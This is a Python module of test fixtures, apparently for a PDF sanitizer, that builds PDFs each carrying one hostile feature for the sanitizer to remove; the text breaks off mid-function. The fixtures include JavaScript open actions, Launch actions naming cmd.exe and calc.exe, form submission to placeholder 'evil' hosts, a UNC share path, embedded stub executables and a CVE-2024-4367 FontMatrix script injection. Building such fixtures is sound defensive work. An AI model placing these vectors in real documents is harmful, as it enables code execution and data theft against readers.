"""Build hostile PDFs from a harmless base, one builder per checklist item.

The base (``base()``) has three pages of real text in Helvetica (pdftotext reads
it), an outline with two items (one /Dest, one /GoTo action), and on page 0 a
plain /URI link (Annots[0]) and an internal /GoTo link (Annots[1]). Builders add
one hostile thing each and return the file's bytes.
"""

from __future__ import annotations

import io
import random
import re
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = [
    "Sekisho test page one: the quick brown fox jumps over the lazy dog.",
    "Sekisho test page two: pack my box with five dozen liquor jugs.",
    "Sekisho test page three: how vexingly quick daft zebras jump.",
]


def js(code: str = "app.alert('pwned');") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def goto(pdf: pikepdf.Pdf, page: int) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[page].obj, Name.Fit]))


def link(action: Dictionary, y: int = 600) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, y, 300, y + 20],
                      Border=[0, 0, 0], A=action)


def base(pages: int = 3) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding))
    for i in range(pages):
        line = TEXT[i % len(TEXT)]
        content = f"BT /F1 14 Tf 72 720 Td ({line}) Tj ET".encode()
        page = Dictionary(Type=Name.Page, MediaBox=[0, 0, 612, 792],
                          Resources=Dictionary(Font=Dictionary(F1=font)),
                          Contents=pdf.make_stream(content))
        pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    first = pdf.pages[0].obj
    first.Annots = Array([
        pdf.make_indirect(link(Dictionary(S=Name.URI, URI=String("https://example.com/doc")),
                               680)),
        pdf.make_indirect(link(goto(pdf, pages - 1), 650)),
    ])
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    one = pdf.make_indirect(Dictionary(Title=String("Chapter 1"), Parent=outlines,
                                       Dest=Array([first, Name.Fit])))
    two = pdf.make_indirect(Dictionary(Title=String("Chapter 2"), Parent=outlines, Prev=one,
                                       A=goto(pdf, min(1, pages - 1))))
    one.Next = two
    outlines.First, outlines.Last = one, two
    pdf.Root.Outlines = outlines
    pdf.docinfo["/Title"] = "Sekisho test document"
    return pdf


def save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    """The file's bytes; the same every time (a deterministic /ID) unless encrypted."""
    if "encryption" not in options:
        options.setdefault("deterministic_id", True)
    buf = io.BytesIO()
    pdf.save(buf, **options)  # type: ignore[arg-type]
    return buf.getvalue()


def plain(pages: int = 3) -> bytes:
    return save(base(pages))


def add_annot(pdf: pikepdf.Pdf, annot: Dictionary, page: int = 0) -> None:
    """Append an annotation to a page (page 0 already has Annots[0] and [1])."""
    obj = pdf.pages[page].obj
    if "/Annots" not in obj:
        obj.Annots = Array()
    obj.Annots.append(pdf.make_indirect(annot))


# --------------------------------------------------------------------------- actions


def open_action_js() -> bytes:
    pdf = base()
    pdf.Root.OpenAction = pdf.make_indirect(js())
    return save(pdf)


def catalog_aa() -> bytes:
    pdf = base()
    pdf.Root.AA = Dictionary(WC=js("close()"), WP=js("print()"))
    return save(pdf)


def page_aa() -> bytes:
    pdf = base()
    pdf.pages[1].obj.AA = Dictionary(
        O=js(), C=Dictionary(S=Name.Launch, F=String("calc.exe")))
    return save(pdf)


def annot_a_js() -> bytes:
    pdf = base()
    add_annot(pdf, link(js()))
    return save(pdf)


def annot_aa() -> bytes:
    pdf = base()
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Square, Rect=[72, 500, 200, 560],
                              AA=Dictionary(E=js("enter()"), X=goto(pdf, 0))))
    return save(pdf)


def form_fields() -> bytes:
    """A text field with two widget kids; the field and the second kid carry /AA."""
    pdf = base()
    page = pdf.pages[0].obj
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("amount"),
                                         AA=Dictionary(F=js("AFNumber_Format()"))))
    kids = []
    for i in range(2):
        widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[72, 400 - 40 * i,
                                                                         200, 420 - 40 * i],
                            Parent=field, P=page)
        if i == 1:
            widget.AA = Dictionary(K=js("keystroke()"))
        kids.append(pdf.make_indirect(widget))
        page.Annots.append(kids[-1])
    field.Kids = Array(kids)
    button = pdf.make_indirect(Dictionary(
        FT=Name.Btn, T=String("send"), Type=Name.Annot, Subtype=Name.Widget,
        Rect=[300, 400, 400, 420], P=page, Ff=65536,
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil/")))))
    page.Annots.append(button)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]))
    return save(pdf)


def next_chain_dict() -> bytes:
    """/A GoTo -> /Next GoTo -> /Next JavaScript (the third action), /Next as dicts."""
    pdf = base()
    third = js("hidden()")
    second = goto(pdf, 1)
    second.Next = third
    first = goto(pdf, 2)
    first.Next = pdf.make_indirect(second)
    add_annot(pdf, link(first))
    return save(pdf)


def next_chain_array() -> bytes:
    """/A GoTo with /Next [GoTo -> Launch, JavaScript, Named NextPage]."""
    pdf = base()
    inner = goto(pdf, 1)
    inner.Next = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    head = goto(pdf, 2)
    head.Next = Array([inner, js("second()"), Dictionary(S=Name.Named, N=Name.NextPage)])
    add_annot(pdf, link(head))
    return save(pdf)


def outline_js() -> bytes:
    pdf = base()
    pdf.Root.Outlines.First.Next.A = js("outline()")
    return save(pdf)


def names_js() -> bytes:
    pdf = base()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("init"), pdf.make_indirect(js("init()"))])))
    return save(pdf)


def names_tree_kids() -> bytes:
    """Name trees with intermediate nodes: JavaScript in the second leaf, files in both."""
    pdf = base()
    leaf = lambda *pairs: pdf.make_indirect(Dictionary(Names=Array(list(pairs))))  # noqa: E731
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Kids=Array([
            leaf(String("a"), js("a()")), leaf(String("b"), js("b()"), String("c"), js("c()"))])),
        EmbeddedFiles=Dictionary(Kids=Array([
            leaf(String("one.txt"), filespec(pdf, "one.txt", b"one\n")),
            leaf(String("tool.exe"), filespec(pdf, "tool.exe", EXE)),
        ])))
    return save(pdf)


#: action type -> extra entries of a link annotation's action
ACTION_PARAMS: dict[str, dict[str, object]] = {
    "Launch": {"F": String("calc.exe")},
    "SubmitForm": {"F": Dictionary(FS=Name.URL, F=String("http://evil.example/"))},
    "ImportData": {"F": String("data.fdf")},
    "GoToR": {"F": String("other.pdf"), "D": Array([0, Name.Fit])},
    "GoToE": {"T": Dictionary(R=Name.C, N=String("x.pdf")), "D": Array([0, Name.Fit])},
    "Sound": {"Sound": Dictionary(R=8000)},
    "Movie": {"T": String("movie")},
    "Rendition": {"OP": 0},
    "Hide": {"T": String("field"), "H": True},
    "SetOCGState": {"State": Array([Name.OFF])},
    "GoTo3DView": {"TA": Dictionary(), "V": 0},
    "Trans": {"Trans": Dictionary(S=Name.Dissolve)},
    "RichMediaExecute": {"CMD": Dictionary(C=String("play"))},
    "ResetForm": {},
    "Thread": {"D": 0},
    "Frobnicate": {},
}


def action_link(kind: str) -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = base()
        action = Dictionary(S=Name("/" + kind))
        for key, value in ACTION_PARAMS.get(kind, {}).items():
            action["/" + key] = value
        add_annot(pdf, link(action))
        return save(pdf)

    build.__name__ = f"action_{kind}"
    return build


def named_actions() -> bytes:
    """A standard named action (kept) and a menu-item one (removed)."""
    pdf = base()
    add_annot(pdf, link(Dictionary(S=Name.Named, N=Name.LastPage)))
    add_annot(pdf, link(Dictionary(S=Name.Named, N=Name.Print), 560))
    return save(pdf)


def uri_schemes() -> bytes:
    """A mailto link (kept by policy) and a javascript: URI (always removed)."""
    pdf = base()
    add_annot(pdf, link(Dictionary(S=Name.URI, URI=String("mailto:info@example.com"))))
    add_annot(pdf, link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)")), 560))
    return save(pdf)


def uri_open_action() -> bytes:
    """A web address opened automatically: removed even when links are kept."""
    pdf = base()
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://tracker.example/p.gif"))
    return save(pdf)


def hidden_js() -> bytes:
    """A JavaScript action in a place no viewer looks (found by the generic sweep)."""
    pdf = base()
    pdf.pages[0].obj.PieceInfo = Dictionary(Foo=Dictionary(Private=js("hidden()")))
    return save(pdf)


def font_matrix() -> bytes:
    """Fonts whose /FontMatrix carries script for PDF.js (CVE-2024-4367): a string in a
    direct matrix on the shared font, and an indirect matrix holding a name and a string
    on a second page's font."""
    pdf = base()
    first = pdf.pages[0].obj.Resources.Font.F1
    first.FontMatrix = Array([1, 2, 3, 4, 5, String("1); alert('origin: ' + window.origin")])
    second = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                          BaseFont=Name.Courier))
    second.FontMatrix = pdf.make_indirect(Array([0.001, 0, 0, 0.001, Name.X, String("0)")]))
    pdf.pages[1].obj.Resources = Dictionary(Font=Dictionary(F1=first, F2=second))
    return save(pdf)


def external_stream() -> bytes:
    """An image whose data is said to live on a share (an external stream, /F)."""
    pdf = base()
    image = pdf.make_stream(b"\x80")
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width = image.Height = 1
    image.BitsPerComponent = 8
    image.ColorSpace = Name.DeviceGray
    image.F = Dictionary(Type=Name.Filespec, FS=Name.URL,
                         F=String("\\\\evil.example\\share\\logo.bin"))
    image.FFilter = Name.DCTDecode
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Im1=image)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" q 9 0 0 9 72 600 cm /Im1 Do Q")
    return save(pdf)


# ----------------------------------------------------------------- embedded content


def inner_pdf() -> bytes:
    """A small PDF carrying JavaScript, to be embedded."""
    pdf = base(1)
    pdf.Root.OpenAction = js("inner()")
    return save(pdf)


def filespec(pdf: pikepdf.Pdf, name: str, data: bytes, mime: str | None = None) -> Dictionary:
    stream = pdf.make_stream(data, Type=Name.EmbeddedFile, Params=Dictionary(Size=len(data)))
    if mime:
        stream.Subtype = Name("/" + mime)
    stream.Params.CheckSum = String(b"0123456789abcdef")
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name),
                                        EF=Dictionary(F=stream, UF=stream)))


EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode"


def embedded_files() -> bytes:
    """A PDF with JavaScript (disarmed) and an .exe (blocked -> removed), in /EmbeddedFiles."""
    pdf = base()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([
        String("inner.pdf"), filespec(pdf, "inner.pdf", inner_pdf(), "application/pdf"),
        String("tool.exe"), filespec(pdf, "tool.exe", EXE),
    ])))
    return save(pdf)


def portfolio_navigator() -> bytes:
    """A portfolio (/Collection) of the embedded_files files, shown by a custom
    navigator: a Flash program (PDF 1.7 Adobe extension level 3, /Navigator)."""
    pdf = pikepdf.open(io.BytesIO(embedded_files()))
    swf = pdf.make_stream(b"FWS\x0a" + bytes(20))
    pdf.Root.Collection = Dictionary(View=Name.H, D=String("inner.pdf"), Navigator=Dictionary(
        Type=Name.Navigator, Layout=Name.Custom, SWF=String("nav.swf"),
        Resources=Dictionary(Names=Array([String("nav.swf"), swf]))))
    return save(pdf)


def file_attachment(name: str = "notes.txt", data: bytes = b"plain notes\n") -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = base()
        add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                  Rect=[400, 700, 420, 720], Name=Name.PushPin,
                                  FS=filespec(pdf, name, data)))
        return save(pdf)

    build.__name__ = f"file_attachment_{name}"
    return build


def drawn_attachment(label: str = "budget-2026.xlsx") -> bytes:
    """A FileAttachment annotation that draws its file's name on the page (LaTeX's
    attachfile package does), and an icon-only one (no appearance of its own)."""
    pdf = base()
    font = pdf.pages[0].obj.Resources.Font.F1
    look = pdf.make_stream(f"BT /F1 10 Tf 2 4 Td ({label}) Tj ET".encode(), Type=Name.XObject,
                           Subtype=Name.Form, BBox=[0, 0, 120, 16],
                           Resources=Dictionary(Font=Dictionary(F1=font)))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                              Rect=[72, 600, 192, 616], Contents=String(label),
                              AP=Dictionary(N=look), FS=filespec(pdf, label, EXE)))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                              Rect=[400, 700, 420, 720], Name=Name.PushPin,
                              FS=filespec(pdf, "icon.txt", b"notes\n")))
    return save(pdf)


def shared_attachment() -> bytes:
    """One file specification listed in /EmbeddedFiles and shown by a FileAttachment
    annotation, as qpdf --add-attachment and Acrobat write it."""
    pdf = base()
    spec = filespec(pdf, "setup.exe", EXE)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("setup.exe"),
                                                                      spec])))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                              Rect=[400, 700, 420, 720], Name=Name.PushPin, FS=spec))
    return save(pdf)


def junk_embedded_entry() -> bytes:
    """An /EmbeddedFiles name tree whose only entry is a string, not a file
    specification (a damaged file): nothing to open, but the tree stayed."""
    pdf = base()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("PDF1.pdf"),
                                                                      String("x")])))
    return save(pdf)


def outside_attachment() -> bytes:
    """FileAttachment annotations whose files are not in the document: a path outside it
    (a dictionary without /EF, and a bare string)."""
    pdf = base()
    for fs in (pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("C:\\Windows\\calc.exe"))),
               String("..\\payload.exe")):
        add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                  Rect=[400, 700, 420, 720], Name=Name.PushPin, FS=fs))
    return save(pdf)


def associated_file() -> bytes:
    """An executable reachable only through the catalog's /AF (found by the sweep)."""
    pdf = base()
    pdf.Root.AF = Array([filespec(pdf, "payload.exe", EXE)])
    return save(pdf)


def associated_files_tagged() -> bytes:
    """Associated files as LaTeX's tagged PDF writes them (pdf.js bug1937438): files
    listed in /EmbeddedFiles and named again by the /AF of structure elements, plus an
    /AF entry that only names a file outside the document."""
    pdf = base()
    mathml = filespec(pdf, "mathml-1.xml", b"<math/>", "application/mathml+xml")
    source = filespec(pdf, "formula.tex", b"x^2\n")
    outside = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("notes.txt"),
                                           UF=String("notes.txt")))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([
        String("mathml-1.xml"), mathml])))
    formula = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Formula,
                                           AF=Array([mathml, source])))
    note = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, AF=outside))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([formula, note]))
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    return save(pdf)


def xfa() -> bytes:
    pdf = base()
    template = pdf.make_stream(b"<template><script>app.alert(1)</script></template>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Array([String("template"), template]))
    pdf.Root.NeedsRendering = True
    return save(pdf)


def media_annots() -> bytes:
    """RichMedia, Screen, Movie, Sound and 3D annotations: Annots[2] to Annots[6]."""
    pdf = base()
    swf = pdf.make_stream(b"FWS\x0a fake flash")
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[72, 100, 200, 200],
                              RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([
                                  String("a.swf"), filespec(pdf, "a.swf", bytes(swf.read_bytes()))
                              ])))))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=[72, 100, 200, 200],
                              A=Dictionary(S=Name.Rendition, OP=0)))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=[72, 100, 200, 200],
                              Movie=Dictionary(F=String("clip.mov"))))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Sound, Rect=[72, 100, 200, 200],
                              Sound=pdf.make_stream(b"\x00" * 64, R=8000)))
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=[72, 100, 200, 200],
                              **{"/3DD": pdf.make_stream(b"U3D fake", Subtype=Name.U3D)}))
    return save(pdf)


# ----------------------------------------------------------------- file structure


def hex_escaped() -> bytes:
    """/OpenAction << /S /J#61vaScript /J#53 (...) >> written into the raw bytes."""
    pdf = base()
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary({"/S": Name("/JQ61vaScript"), "/JQ53": String("app.alert(1)")}))
    raw = save(pdf, compress_streams=False,
               object_stream_mode=pikepdf.ObjectStreamMode.disable)
    out = raw.replace(b"/JQ61vaScript", b"/J#61vaScript").replace(b"/JQ53", b"/J#53")
    assert b"/J#61vaScript" in out and b"/JavaScript" not in out
    return out


def object_stream_js() -> bytes:
    pdf = base()
    pdf.Root.OpenAction = pdf.make_indirect(js("in_objstm()"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("a"), pdf.make_indirect(js("a()"))])))
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _classic(pdf: pikepdf.Pdf) -> bytes:
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                compress_streams=False)


def append_update(data: bytes, objects: dict[int, bytes], root: int, size: int) -> bytes:
    """Append an incremental update: new/changed objects, an xref section, a trailer."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    info = re.findall(rb"/Info (\d+ \d+ R)", data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for num, body in sorted(objects.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    xref = len(out)
    out += b"xref\n"
    for num, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (num, offset)
    extra = b" /Info " + info[-1] if info else b""
    out += b"trailer\n<< /Size %d /Root %d 0 R%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, extra, prev, xref)
    return bytes(out)


def _catalog(data: bytes) -> tuple[int, bytes, int]:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return pdf.Root.objgen[0], pdf.Root.unparse(resolved=True), int(pdf.trailer.Size)


def incremental_js() -> bytes:
    """JavaScript only in a later revision: an update adds /OpenAction to the catalog."""
    data = _classic(base())
    root, catalog, size = _catalog(data)
    new_catalog = catalog[:-2] + b" /OpenAction %d 0 R >>" % size
    return append_update(data, {root: new_catalog,
                                size: b"<< /S /JavaScript /JS (update\\(\\)) >>"},
                         root, size + 1)


def earlier_revision_js() -> bytes:
    """JavaScript only in an earlier revision: the update drops the /OpenAction."""
    pdf = base()
    pdf.Root.OpenAction = pdf.make_indirect(js("old_revision()"))
    data = _classic(pdf)
    root, catalog, size = _catalog(data)
    cleaned = re.sub(rb"/OpenAction \d+ \d+ R ?", b"", catalog)
    return append_update(data, {root: cleaned}, root, size)


def orphan_js() -> bytes:
    """An unreferenced JavaScript object added by an update."""
    data = _classic(base())
    root, _catalog_text, size = _catalog(data)
    return append_update(data, {size: b"<< /S /JavaScript /JS (orphan\\(\\)) >>"},
                         root, size + 1)


def encrypted_owner() -> bytes:
    """Encrypted with an owner password only: opens without a password."""
    return save(base(), encryption=pikepdf.Encryption(owner="owner-secret", user="", R=6))


def encrypted_user() -> bytes:
    return save(base(), encryption=pikepdf.Encryption(owner="owner-secret", user="open-me", R=6))


def encrypted_public_key() -> bytes:
    """Encrypted for certificate holders (public-key security, /Adobe.PubSec: PDFBox's
    AESkeylength128.pdf): no password opens it."""
    data = save(base(), encryption=pikepdf.Encryption(owner="o", user="u", R=6),
                object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return data.replace(b"/Filter /Standard",
                        b"/Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5")


def encrypted_attachments_only() -> bytes:
    """Only the attachment encrypted (Acrobat's "encrypt only file attachments", as in
    qpdf's enc-XI-...encrypted-attachments.pdf): /EFF names an AES-256 crypt filter,
    strings and streams use /Identity. Every viewer shows the pages without a password;
    qpdf asks for the attachment's first."""
    pdf = base()
    rng = random.Random(11)
    blob = pdf.make_stream(rng.randbytes(64))  # ciphertext, as far as anyone can tell
    blob.Type = Name.EmbeddedFile
    blob.Filter = Array([Name.Crypt])
    blob.DecodeParms = Array([Dictionary(Name=Name.StdCF)])
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("memo.txt"),
                                        UF=String("memo.txt"), EF=Dictionary(F=blob)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("memo.txt"),
                                                                      spec])))
    enc = pdf.make_indirect(Dictionary(
        Filter=Name.Standard, V=5, R=6, Length=256, P=-1028, EncryptMetadata=False,
        CF=Dictionary(StdCF=Dictionary(CFM=Name.AESV3, AuthEvent=Name.EFOpen, Length=32)),
        StmF=Name.Identity, StrF=Name.Identity, EFF=Name.StdCF,
        O=String(rng.randbytes(48)), U=String(rng.randbytes(48)),
        OE=String(rng.randbytes(32)), UE=String(rng.randbytes(32)),
        Perms=String(rng.randbytes(16))))
    pdf.trailer["/Xncrypt"] = enc  # qpdf writes no /Encrypt it did not make: renamed after
    data = save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return data.replace(b"/Xncrypt", b"/Encrypt")


def damaged_xref() -> bytes:
    """Wrong startxref offset and a broken xref entry: qpdf reconstructs the table."""
    data = _classic(base())
    pos = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    data = data[:pos] + data[pos:].replace(b"0000000009 00000 n", b"0000099999 00000 n", 1)
    return re.sub(rb"startxref\s+\d+", b"startxref\n%d" % (pos + 13), data)


def garbage() -> bytes:
    """A PDF header and nothing a parser can use."""
    return b"%PDF-1.7\n" + random.Random(7).randbytes(3000).replace(b"obj", b"xxx")


def root_in_trailer() -> bytes:
    """No xref, no endobj, the catalog written into the trailer (corkami style).

    qpdf cannot open this; the stage's salvage rebuilds it from its objects.
    """
    content = b"BT /F1 14 Tf 72 720 Td (" + TEXT[0].encode() + b") Tj ET"
    return b"".join([
        b"%PDF-1.4\n",
        b"1 0 obj\n<< /Kids [ << /Parent 1 0 R /Contents 2 0 R /MediaBox [0 0 612 792]",
        b" /Resources << /Font << /F1 3 0 R >> >> >> ] >>\n%endobj\n",
        b"2 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\n" % (len(content), content),
        b"3 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\n",
        b"trailer\n<< /Root << /Pages 1 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\))",
        b" >> >> >>\n",
    ])


def script_only() -> bytes:
    """A proof of concept without a page: an empty /Pages, the script in /OpenAction.

    Adobe Reader runs it; qpdf opens it with warnings; poppler finds no page.
    """
    return b"".join([
        b"%PDF-1.4\n1 0 obj\n<<>>\n%endobj\n\n",
        b"trailer\n<<\n/Root\n  <</Pages <<>>\n  /OpenAction\n      <<\n      /S/JavaScript\n",
        b"      /JS(app.alert\\(\"Hello\"\\);)\n      >>\n  >>\n>>\n",
    ])


def no_pages_names_js() -> bytes:
    """A well-formed document whose page tree is empty; the script is in /Names."""
    pdf = pikepdf.new()
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([
        pikepdf.String("1"), pdf.make_indirect(js("app.alert(1)"))])))
    return save(pdf)


def _hand_written(text: str, objects: dict[int, bytes]) -> bytes:
    """A PDF written by hand without a cross-reference table: ``objects`` (numbered as
    given, the damage written out in them) plus object 4, a content stream showing
    ``text``, and object 6, the Helvetica font it uses; the trailer names catalog 1."""
    content = b"BT /F1 14 Tf 72 720 Td (" + text.encode() + b") Tj ET"
    every = {4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
             6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", **objects}
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, every[n]) for n in sorted(every))
    return b"%PDF-1.4\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def broken_page_tree() -> bytes:
    """No xref and a /Kids array that does not parse: qpdf's recovery gives up on it."""
    return _hand_written(TEXT[1], {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids \x00 3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
           b" /Resources << /Font << /F1 6 0 R >> >> >>",
        5: b"<< /S /Launch /F (cmd.exe) >>",
    })


def widget_and_bare_kids(dangling_content: bool = False) -> bytes:
    """A root /Pages whose /Kids is a bare reference, not an array (qpdf opens the file,
    the walk rebuilds the page tree from page objects), and a form widget whose /Parent
    and /Contents look like a page's. With ``dangling_content`` the page's /Contents is
    an array holding a reference to a missing object too."""
    pdf = base(1)
    field = pdf.make_indirect(Dictionary(T=String("group")))
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("ok"), Parent=field,
        Contents=String("tip"), Rect=Array([72, 600, 144, 620])))
    field.Kids = Array([widget])
    add_annot(pdf, widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    data = _classic(pdf)
    with pikepdf.open(io.BytesIO(data)) as saved:
        pages = saved.Root.Pages.objgen[0]
        content = saved.pages[0].Contents.objgen[0]
    data = re.sub(rb"((?<![0-9])%d 0 obj\s*<<[^>]*?)/Kids \[ ([0-9 R]+) \]" % pages,
                  rb"\1/Kids   \2  ", data, count=1)
    if dangling_content:  # the xref is off by a few bytes then: qpdf rebuilds it
        data = data.replace(b"/Contents %d 0 R" % content, b"/Contents [ %d 0 R 99 0 R ]" % content)
    return data


def broken_object_stream() -> bytes:
    """Two object streams; the second one's ``stream`` keyword is damaged, so it reads
    as a plain dictionary (as a flipped byte did to pikepdf's form_dd0293.pdf). qpdf
    opens the file but cannot write that object stream again."""
    pdf = base(2)
    pdf.Root.OpenAction = pdf.make_indirect(js())
    pdf.Root.PieceInfo = Dictionary(Filler=Array(
        [pdf.make_indirect(Dictionary(N=i)) for i in range(150)]))
    data = save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    second = list(re.finditer(rb"/Type\s*/ObjStm[^>]*>>\s*stream", data))[1]
    at = data.index(b"stream", second.start())
    return data[:at] + b"strean" + data[at + 6:]


def unbalanced_catalog() -> bytes:
    """A fuzzed catalog (``> >>`` where ``>> >>`` belongs, as in pdf.js'
    poppler-742-0-fuzzed.pdf), a /Kids array without its ``[``, a widget whose
    /Parent and /Contents look like a page's, and a title string left open.

    qpdf finds no catalog; poppler opens it and shows the page's text.
    """
    return _hand_written(TEXT[2], {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R"
           b" /AcroForm << /Fields [ 7 0 R ] /DA (/F1 0 Tf 0 g) > >>",
        2: b"<< /Type /Pages /Kids  3 0 R ] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
           b" /Resources << /Font << /F1 6 0 R >> >> /Annots [ 7 0 R ] >>",
        5: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        7: b"<< /Subtype /Widget /FT /Btn /T (ok) /Parent 8 0 R /Contents (tip)"
           b" /Rect [72 600 144 620] /P 3 0 R >>",
        8: b"<< /T (group) /Kids [ 7 0 R ] /TU (left \\( open >>",
    })


def bogus_encrypt(ciphertext: bool = False) -> bytes:
    """A trailer's /Encrypt naming an object that is not a dictionary (a fuzzed
    ``E<`` for ``<<``, as in pdf.js' PDFBOX-4352-0.pdf); nothing is encrypted, or
    with ``ciphertext`` the page's content is bytes no filter decodes (as there).

    qpdf refuses the file; poppler opens it as unencrypted and shows its text.
    """
    pdf = base(1)
    pdf.Root.OpenAction = pdf.make_indirect(js())
    if ciphertext:
        pdf.pages[0].Contents.write(random.Random(4352).randbytes(64),
                                    filter=Name.FlateDecode)
    data = _classic(pdf)
    root, _, size = _catalog(data)
    bogus = b"E< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <00> /U <00> >>"
    data = append_update(data, {size: bogus}, root, size + 1)
    at = data.rindex(b"trailer")
    return data[:at] + data[at:].replace(b"/Root %d 0 R" % root,
                                         b"/Root %d 0 R /Encrypt %d 0 R" % (root, size))


def combination() -> bytes:
    """Many of the above at once, saved with object streams."""
    pdf = base()
    pdf.Root.OpenAction = pdf.make_indirect(js())
    pdf.Root.AA = Dictionary(WC=js("close()"))
    pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), js("x()")])),
        EmbeddedFiles=Dictionary(Names=Array([String("tool.exe"), filespec(pdf, "tool.exe",
                                                                             EXE)])))
    pdf.Root.Outlines.First.A = js("bookmark()")
    chain = goto(pdf, 1)
    chain.Next = Array([Dictionary(S=Name.ImportData, F=String("x.fdf")), goto(pdf, 2)])
    add_annot(pdf, link(chain))                                         # Annots[2]
    add_annot(pdf, link(Dictionary(S=Name.GoToR, F=String("o.pdf"), D=Array([0, Name.Fit])),
                        560))                                           # Annots[3]
    add_annot(pdf, Dictionary(Type=Name.Annot, Subtype=Name.RichMedia,  # Annots[4]
